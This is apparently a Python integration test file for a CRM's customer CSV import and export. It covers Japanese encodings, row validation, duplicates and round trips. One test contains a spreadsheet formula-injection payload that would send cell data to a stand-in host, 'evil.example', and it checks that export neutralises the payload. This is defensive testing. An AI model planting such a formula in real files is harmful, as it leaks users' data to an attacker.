"""Customer CSV import and export against the real event store: encodings, row errors, re-runs, round trips."""

from __future__ import annotations

import asyncio
import base64
import csv
import io
import multiprocessing
from collections.abc import AsyncIterator
from concurrent.futures import ProcessPoolExecutor
from pathlib import Path
from typing import Any

import asyncpg
import pytest
import pytest_asyncio
from crm_cli.customers import export_app, import_app
from crm_cli.testing import MASTER_KEY, TEST_ROLE, NewDatabase, admin_url_for
from crm_contacts import database as contacts_database
from crm_contacts.app.customers import CustomerCommands
from crm_contacts.app.directory import CustomerDirectory
from crm_contacts.app.exports import export_customers, header
from crm_contacts.app.imports import (
    DIFFERENT_DATA,
    ImportFileError,
    ImportReport,
    RowError,
    import_customers,
)
from crm_contacts.domain.commands import MergeCustomer, RegisterCustomer
from crm_contacts.domain.customer import Customer
from crm_contacts.domain.validation import normalise_email
from crm_eventstore.ids import new_id
from crm_eventstore.keyring import Keyring
from crm_eventstore.store import CommandContext, PostgresEventStore, create_pool
from crm_schemas.envelope import ActorRef
from typer import Typer
from typer.testing import CliRunner

from .builders import company_body, corporate_number

pytestmark = pytest.mark.integration

CTX = CommandContext(actor=ActorRef(subject="cli:tester", role="integration"))

JA_HEADER = [
    "顧客コード",
    "種別",
    "会社名",
    "フリガナ",
    "法人番号",
    "業種",
    "郵便番号",
    "都道府県",
    "市区町村",
    "番地",
    "電話番号",
    "メールアドレス",
    "URL",
    "資本金",
    "従業員数",
    "決算月",
    "代表者",
    "生年月日",
    "性別",
    "職業",
]
SAKURA = [
    "C001",
    "法人",
    "株式会社さくら物産",
    "カブシキガイシャサクラブッサン",
    corporate_number("012345678901"),
    "卸売業",
    "〒100-0001",
    "東京都",
    "千代田区",
    "千代田1-1",
    "03-1234-5678",
    "Info@Sakura.example.co.jp",
    "https://sakura.example.co.jp/",
    "1,000万円",
    "120名",
    "3月",
    "山田 太郎",
    "",
    "",
    "",
]
HANAKO = [
    "P001",
    "個人",
    "佐藤 花子",
    "サトウ ハナコ",
    "",
    "",
    "530-0001",
    "大阪府",
    "大阪市北区",
    "梅田1-1-1",
    "090-1234-5678",
    "hanako.sato@example.jp",
    "",
    "",
    "",
    "",
    "",
    "昭和60年6月15日",
    "女性",
    "会社員",
]


def write_csv(path: Path, rows: list[list[str]], encoding: str = "utf-8-sig", head: list[str] = JA_HEADER) -> Path:
    with path.open("w", encoding=encoding, newline="") as out:
        writer = csv.writer(out)
        writer.writerow(head)
        writer.writerows(rows)
    return path


def row_with(base: list[str], **changes: str) -> list[str]:
    """A copy of a row with cells replaced by Japanese header name."""
    row = list(base)
    for column, value in changes.items():
        row[JA_HEADER.index(column)] = value
    return row


async def add_directory(store_url: str, pg_admin_url: str) -> None:
    """The contacts database's own tables (the 名寄せ directory) beside the event store, as `crm up` makes them."""
    admin = await asyncpg.connect(admin_url_for(store_url, pg_admin_url))
    try:
        await admin.execute(contacts_database.DDL + contacts_database.GRANTS.format(role=f'"{TEST_ROLE}"'))
    finally:
        await admin.close()


async def contacts_store(url: str, keyring: Keyring, pg_admin_url: str) -> CustomerCommands:
    await add_directory(url, pg_admin_url)
    pool = await create_pool(url, min_size=1, max_size=20)
    return CustomerCommands(PostgresEventStore(pool, "contacts", keyring), CustomerDirectory(pool))


@pytest_asyncio.fixture(loop_scope="session")
async def commands(
    new_event_store_database: NewDatabase, keyring: Keyring, pg_admin_url: str
) -> AsyncIterator[CustomerCommands]:
    """Customer commands as the contacts service wires them: event store and directory."""
    commands = await contacts_store(await new_event_store_database(), keyring, pg_admin_url)
    yield commands
    await commands.store.pool.close()


@pytest_asyncio.fixture(loop_scope="session")
async def other_commands(
    new_event_store_database: NewDatabase, keyring: Keyring, pg_admin_url: str
) -> AsyncIterator[CustomerCommands]:
    """Customer commands on a second, empty contacts database (the target of a round trip)."""
    commands = await contacts_store(await new_event_store_database(), keyring, pg_admin_url)
    yield commands
    await commands.store.pool.close()


async def count_events(commands: CustomerCommands) -> int:
    return int(await commands.store.pool.fetchval("SELECT count(*) FROM events"))


async def customers(commands: CustomerCommands) -> dict[str | None, Customer]:
    """Every customer of the store by external id (None for those without one)."""
    ids = await commands.store.pool.fetch("SELECT DISTINCT customer_id FROM events")
    loaded = [await commands.load(r["customer_id"]) for r in ids]
    return {c.external_id: c for c in loaded}


def counts(report: ImportReport) -> dict[str, int]:
    return {
        "rows": report.rows,
        "imported": report.imported,
        "replayed": report.replayed,
        "duplicates": report.duplicates,
        "invalid": report.invalid,
    }


# --- encodings and headers -----------------------------------------------------------------------


async def test_a_utf8_file_with_bom_and_japanese_headers_imports_companies_and_persons(
    commands: CustomerCommands, tmp_path: Path
) -> None:
    path = write_csv(tmp_path / "customers.csv", [SAKURA, HANAKO])

    report = await import_customers(commands, path, CTX)

    assert counts(report) == {"rows": 2, "imported": 2, "replayed": 0, "duplicates": 0, "invalid": 0}
    assert report.encoding == "utf-8"
    assert report.errors == []
    assert report.error_file is None
    assert not (tmp_path / "customers.errors.csv").exists()
    found = await customers(commands)
    sakura, hanako = found["C001"], found["P001"]
    assert sakura.kind == "company"
    assert sakura.profile["name"] == "株式会社さくら物産"
    assert sakura.profile["address"] == {
        "postal_code": "100-0001",
        "prefecture": "東京都",
        "city": "千代田区",
        "street": "千代田1-1",
    }
    assert sakura.profile["phone"] == "+81312345678"
    assert sakura.profile["email"] == normalise_email("Info@Sakura.example.co.jp")
    assert sakura.profile["capital"] == "10000000"
    assert sakura.profile["employee_count"] == 120
    assert sakura.profile["fiscal_month"] == 3
    assert hanako.kind == "person"
    assert hanako.profile["birth_date"].isoformat() == "1985-06-15"
    assert hanako.profile["gender"] == "female"
    assert hanako.profile["occupation"] == "会社員"


async def test_a_cp932_file_is_detected_and_imported_with_its_windows_only_characters(
    commands: CustomerCommands, tmp_path: Path
) -> None:
    # ㈱ and 髙 exist in CP932 (Windows "Shift_JIS") but not in JIS Shift_JIS proper.
    takahashi = row_with(SAKURA, 顧客コード="C900", 会社名="㈱髙橋製作所", フリガナ="タカハシセイサクショ")
    path = write_csv(tmp_path / "sjis.csv", [takahashi, HANAKO], encoding="cp932")

    report = await import_customers(commands, path, CTX)

    assert report.encoding == "cp932"
    assert counts(report)["imported"] == 2
    assert (await customers(commands))["C900"].profile["name"] == "㈱髙橋製作所"


async def test_the_encoding_can_be_named_and_a_wrong_name_refuses_the_file(
    commands: CustomerCommands, tmp_path: Path
) -> None:
    path = write_csv(tmp_path / "sjis.csv", [SAKURA], encoding="cp932")

    with pytest.raises(ImportFileError, match="not valid utf-8"):
        await import_customers(commands, path, CTX, encoding="utf-8")
    report = await import_customers(commands, path, CTX, encoding="Shift_JIS")

    assert report.imported == 1


async def test_a_file_in_neither_utf8_nor_cp932_is_refused_before_any_row(
    commands: CustomerCommands, tmp_path: Path
) -> None:
    path = tmp_path / "binary.csv"
    path.write_bytes("会社名\n".encode() + b"\xff\xfe\xfd\x80\n")

    with pytest.raises(ImportFileError, match="neither UTF-8 nor Shift_JIS"):
        await import_customers(commands, path, CTX)
    assert await count_events(commands) == 0


async def test_a_mapping_names_the_field_of_each_custom_header_and_skips_others(
    commands: CustomerCommands, tmp_path: Path
) -> None:
    path = write_csv(
        tmp_path / "crm-old.csv",
        [["K-1", "株式会社みどり商会", "東京", "営業担当メモ"]],
        head=["得意先番号", "得意先名", "県", "備考"],
    )
    mapping: dict[str, str | None] = {
        "得意先番号": "external_id",
        "得意先名": "name",
        "県": "prefecture",
        "備考": None,
    }

    report = await import_customers(commands, path, CTX, mapping=mapping, default_kind="company")

    assert counts(report)["imported"] == 1
    assert report.unmapped_columns == []
    customer = (await customers(commands))["K-1"]
    assert customer.profile["name"] == "株式会社みどり商会"
    assert customer.profile["address"]["prefecture"] == "東京都"


async def test_a_file_without_a_name_column_is_refused_naming_what_to_do(
    commands: CustomerCommands, tmp_path: Path
) -> None:
    path = write_csv(tmp_path / "x.csv", [["a", "b"]], head=["得意先名", "備考"])

    with pytest.raises(ImportFileError, match="no column maps to name"):
        await import_customers(commands, path, CTX)


# --- row-level validation ------------------------------------------------------------------------


async def test_invalid_rows_are_reported_by_row_column_and_message_and_only_valid_rows_are_imported(
    commands: CustomerCommands, tmp_path: Path
) -> None:
    rows = [
        SAKURA,  # row 2
        row_with(SAKURA, 顧客コード="C002", 法人番号="7000012050003"),  # row 3: check digit
        row_with(SAKURA, 顧客コード="C003", メールアドレス="taro.example.com"),  # row 4
        row_with(SAKURA, 顧客コード="C004", 会社名=""),  # row 5
        row_with(SAKURA, 顧客コード="C005", 都道府県="東京県"),  # row 6
        HANAKO,  # row 7
    ]
    path = write_csv(tmp_path / "customers.csv", rows)

    report = await import_customers(commands, path, CTX)

    assert counts(report) == {"rows": 6, "imported": 2, "replayed": 0, "duplicates": 0, "invalid": 4}
    assert [(e.row, e.column, e.field) for e in report.errors] == [
        (3, "法人番号", "corporate_number"),
        (4, "メールアドレス", "email"),
        (5, "会社名", "name"),
        (6, "都道府県", "address.prefecture"),
    ]
    messages = [e.message for e in report.errors]
    assert "check digit" in messages[0]
    assert "@" in messages[1]
    assert messages[2] == "required"
    assert "unknown prefecture" in messages[3]
    assert set(await customers(commands)) == {"C001", "P001"}
    assert await count_events(commands) == 2
    assert report.error_file == tmp_path / "customers.errors.csv"
    with report.error_file.open(encoding="utf-8-sig", newline="") as written:
        lines = list(csv.reader(written))
    assert lines[0] == ["row", "column", "field", "message"]
    assert [line[:3] for line in lines[1:]] == [[str(e.row), e.column, e.field] for e in report.errors]


async def test_a_row_with_more_cells_than_the_header_is_reported_not_guessed(
    commands: CustomerCommands, tmp_path: Path
) -> None:
    path = write_csv(tmp_path / "customers.csv", [[*SAKURA, "stray"], HANAKO])

    report = await import_customers(commands, path, CTX)

    assert report.errors == [RowError(2, "", "row", "the row has 21 cells, the header 20")]
    assert report.imported == 1


async def test_a_domain_rule_failing_on_a_row_is_reported_like_a_format_error(
    commands: CustomerCommands, tmp_path: Path
) -> None:
    path = write_csv(tmp_path / "customers.csv", [row_with(HANAKO, 生年月日="2999-01-01")])

    report = await import_customers(commands, path, CTX)

    assert [(e.row, e.column, e.field, e.message) for e in report.errors] == [
        (2, "生年月日", "birth_date", "birth date is in the future")
    ]
    assert await count_events(commands) == 0


# --- re-runs and duplicates ----------------------------------------------------------------------


async def test_rerunning_the_same_file_imports_nothing_new_with_or_without_external_ids(
    commands: CustomerCommands, tmp_path: Path
) -> None:
    anonymous = row_with(HANAKO, 顧客コード="", 会社名="鈴木 一郎")
    path = write_csv(tmp_path / "customers.csv", [SAKURA, HANAKO, anonymous])

    first = await import_customers(commands, path, CTX)
    again = await import_customers(commands, path, CTX)

    assert counts(first) == {"rows": 3, "imported": 3, "replayed": 0, "duplicates": 0, "invalid": 0}
    assert counts(again) == {"rows": 3, "imported": 0, "replayed": 3, "duplicates": 0, "invalid": 0}
    assert await count_events(commands) == 3


async def test_an_external_id_imported_before_with_different_data_is_an_error_not_a_second_customer(
    commands: CustomerCommands, tmp_path: Path
) -> None:
    await import_customers(commands, write_csv(tmp_path / "first.csv", [SAKURA]), CTX)
    changed = row_with(SAKURA, 会社名="株式会社さくら物産ホールディングス")

    report = await import_customers(commands, write_csv(tmp_path / "second.csv", [changed, HANAKO]), CTX)

    assert report.errors == [RowError(2, "顧客コード", "external_id", DIFFERENT_DATA)]
    assert counts(report) == {"rows": 2, "imported": 1, "replayed": 0, "duplicates": 0, "invalid": 1}
    assert (await customers(commands))["C001"].profile["name"] == "株式会社さくら物産"
    assert await count_events(commands) == 2


async def test_an_external_id_a_customer_registered_elsewhere_already_has_is_an_error_not_a_duplicate(
    commands: CustomerCommands, tmp_path: Path
) -> None:
    registered = RegisterCustomer.model_validate(company_body(external_id="C001"))
    await commands.execute(new_id(), registered, CTX)

    report = await import_customers(commands, write_csv(tmp_path / "customers.csv", [SAKURA, HANAKO]), CTX)

    assert [(e.row, e.column, e.field) for e in report.errors] == [(2, "顧客コード", "external_id")]
    assert "already belongs to another customer" in report.errors[0].message
    assert counts(report) == {"rows": 2, "imported": 1, "replayed": 0, "duplicates": 0, "invalid": 1}
    assert await count_events(commands) == 2


async def test_within_one_file_a_repeated_row_is_skipped_and_a_conflicting_one_reported(
    commands: CustomerCommands, tmp_path: Path
) -> None:
    conflicting = row_with(SAKURA, 会社名="株式会社さくら")
    path = write_csv(tmp_path / "customers.csv", [SAKURA, SAKURA, conflicting])

    report = await import_customers(commands, path, CTX, concurrency=4, batch_size=1)

    assert counts(report) == {"rows": 3, "imported": 1, "replayed": 0, "duplicates": 1, "invalid": 1}
    assert [(e.row, e.field, e.message) for e in report.errors] == [
        (4, "external_id", "external id also on row 2 with different data")
    ]


async def test_an_earlier_error_report_is_removed_once_the_file_imports_cleanly(
    commands: CustomerCommands, tmp_path: Path
) -> None:
    path = write_csv(tmp_path / "customers.csv", [row_with(SAKURA, メールアドレス="broken")])
    assert (await import_customers(commands, path, CTX)).error_file is not None

    write_csv(path, [SAKURA])
    report = await import_customers(commands, path, CTX)

    assert report.error_file is None
    assert not (tmp_path / "customers.errors.csv").exists()


async def test_rows_checked_in_another_process_import_the_same_as_rows_checked_inline(
    commands: CustomerCommands, tmp_path: Path
) -> None:
    rows = [row_with(SAKURA, 顧客コード=f"C{n:04d}", 会社名=f"株式会社{n}") for n in range(1500)]
    rows[700] = row_with(rows[700], メールアドレス="broken")
    path = write_csv(tmp_path / "big.csv", [*rows, HANAKO])

    with ProcessPoolExecutor(1, mp_context=multiprocessing.get_context("spawn")) as checker:
        report = await import_customers(commands, path, CTX, executor=checker)

    assert counts(report) == {"rows": 1501, "imported": 1500, "replayed": 0, "duplicates": 0, "invalid": 1}
    assert [(e.row, e.column) for e in report.errors] == [(702, "メールアドレス")]


async def test_progress_is_reported_up_to_the_number_of_rows(commands: CustomerCommands, tmp_path: Path) -> None:
    rows = [row_with(SAKURA, 顧客コード=f"C{n:03d}", 会社名=f"株式会社{n}") for n in range(25)]
    seen: list[tuple[int, int | None]] = []

    await import_customers(
        commands, write_csv(tmp_path / "c.csv", rows), CTX, batch_size=7, progress=lambda *a: seen.append(a)
    )

    assert seen[-1] == (25, 25)
    assert [done for done, _ in seen] == sorted(done for done, _ in seen)


# --- export -----------------------------------------------------------------------------------------


def read_export(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("headers", ["fields", "ja"])
async def test_export_then_import_into_another_store_round_trips_every_field(
    commands: CustomerCommands, other_commands: CustomerCommands, tmp_path: Path, headers: Any
) -> None:
    anonymous = row_with(HANAKO, 顧客コード="", 会社名="鈴木 一郎")
    await import_customers(commands, write_csv(tmp_path / "in.csv", [SAKURA, HANAKO, anonymous]), CTX)
    exported = tmp_path / "out.csv"

    written = await export_customers(commands, exported, headers=headers)
    report = await import_customers(other_commands, exported, CTX)
    again = io.StringIO()
    await export_customers(other_commands, again, headers=headers)

    assert written.written == 3
    assert counts(report) == {"rows": 3, "imported": 3, "replayed": 0, "duplicates": 0, "invalid": 0}
    first, second = read_export(exported.read_text(encoding="utf-8")), read_export(again.getvalue())
    id_column = header(headers)[0]
    assert sorted(tuple(r[k] for k in r if k != id_column) for r in first) == sorted(
        tuple(r[k] for k in r if k != id_column) for r in second
    )
    sakura = next(r for r in first if r[header(headers)[-1]] == "C001")
    if headers == "fields":
        assert sakura["kind"] == "company"
        assert sakura["phone"] == "+81312345678"
        assert sakura["capital"] == "10000000"
        assert sakura["postal_code"] == "100-0001"
    else:
        assert sakura["種別"] == "法人"
        assert sakura["電話番号"] == "+81312345678"


async def test_the_export_of_imported_customers_re_imported_into_the_same_store_adds_nothing(
    commands: CustomerCommands, tmp_path: Path
) -> None:
    await import_customers(commands, write_csv(tmp_path / "in.csv", [SAKURA, HANAKO]), CTX)
    exported = tmp_path / "out.csv"
    await export_customers(commands, exported)

    report = await import_customers(commands, exported, CTX)

    assert counts(report) == {"rows": 2, "imported": 0, "replayed": 2, "duplicates": 0, "invalid": 0}
    assert report.unmapped_columns == []


async def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_quoted_and_imports_back_unchanged(
    commands: CustomerCommands, other_commands: CustomerCommands, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
    await import_customers(commands, write_csv(tmp_path / "in.csv", [row_with(SAKURA, 会社名=formula)]), CTX)
    exported = tmp_path / "out.csv"

    await export_customers(commands, exported)
    await import_customers(other_commands, exported, CTX)

    [row] = read_export(exported.read_text(encoding="utf-8"))
    assert row["name"] == "'" + formula
    assert row["phone"] == "+81312345678"  # validated fields cannot hold a formula and stay as they are
    assert (await customers(other_commands))["C001"].profile["name"] == formula


async def test_the_bom_option_starts_the_file_with_a_utf8_bom_for_excel(
    commands: CustomerCommands, tmp_path: Path
) -> None:
    await import_customers(commands, write_csv(tmp_path / "in.csv", [SAKURA]), CTX)

    await export_customers(commands, tmp_path / "excel.csv", bom=True)
    await export_customers(commands, tmp_path / "plain.csv")
    stream = io.StringIO()
    await export_customers(commands, stream, bom=True)

    assert (tmp_path / "excel.csv").read_bytes().startswith(b"\xef\xbb\xbfid,kind,name,")
    assert (tmp_path / "plain.csv").read_bytes().startswith(b"id,kind,name,")
    assert stream.getvalue().startswith("\ufeffid,")


async def test_merged_away_customers_are_left_out_unless_asked_for_and_then_name_their_survivor(
    commands: CustomerCommands, tmp_path: Path
) -> None:
    duplicate = row_with(SAKURA, 顧客コード="C002", 会社名="㈱さくら物産")
    await import_customers(commands, write_csv(tmp_path / "in.csv", [SAKURA, duplicate]), CTX)
    found = await customers(commands)
    survivor, absorbed = found["C001"].id, found["C002"].id
    await commands.merge(survivor, MergeCustomer(absorbed_id=absorbed), CTX)

    plain, full = io.StringIO(), io.StringIO()
    left_out = await export_customers(commands, plain)
    kept = await export_customers(commands, full, include_merged=True)

    assert (left_out.written, left_out.merged) == (1, 1)
    assert [r["id"] for r in read_export(plain.getvalue())] == [str(survivor)]
    assert (kept.written, kept.merged) == (2, 1)
    merged_into = {r["id"]: r["merged_into"] for r in read_export(full.getvalue())}
    assert merged_into == {str(survivor): "", str(absorbed): str(survivor)}


# --- the crm command --------------------------------------------------------------------------------


def test_crm_import_and_export_customers_from_the_command_line(
    new_event_store_database: NewDatabase,
    keys_url: str,
    pg_admin_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    crm = Typer()
    crm.add_typer(import_app, name="import")
    crm.add_typer(export_app, name="export")

    async def provision() -> str:
        url = await new_event_store_database()
        await add_directory(url, pg_admin_url)
        return url

    monkeypatch.setenv("CRM_CONTACTS_DATABASE_URL", asyncio.run(provision()))
    monkeypatch.setenv("CRM_KEYS_DATABASE_URL", keys_url)
    monkeypatch.setenv("CRM_MASTER_KEY", base64.urlsafe_b64encode(MASTER_KEY).decode())
    monkeypatch.setenv("CRM_HOME", str(tmp_path / "home"))
    source = write_csv(tmp_path / "customers.csv", [SAKURA, row_with(HANAKO, メールアドレス="nope")], "cp932")
    runner = CliRunner()

    imported = runner.invoke(crm, ["import", "customers", str(source), "--concurrency", "2"])
    exported = runner.invoke(crm, ["export", "customers", "--out", str(tmp_path / "out.csv"), "--bom"])

    said = " ".join(imported.output.split())
    assert imported.exit_code == 1, imported.output
    assert "2 rows (cp932): 1 imported" in said
    assert "1 invalid" in said
    assert "row 3, メールアドレス:" in said
    assert str(tmp_path / "customers.errors.csv") in imported.output.replace("\n", "")
    assert exported.exit_code == 0, exported.output
    rows = read_export((tmp_path / "out.csv").read_text(encoding="utf-8"))
    assert [r["external_id"] for r in rows] == ["C001"]
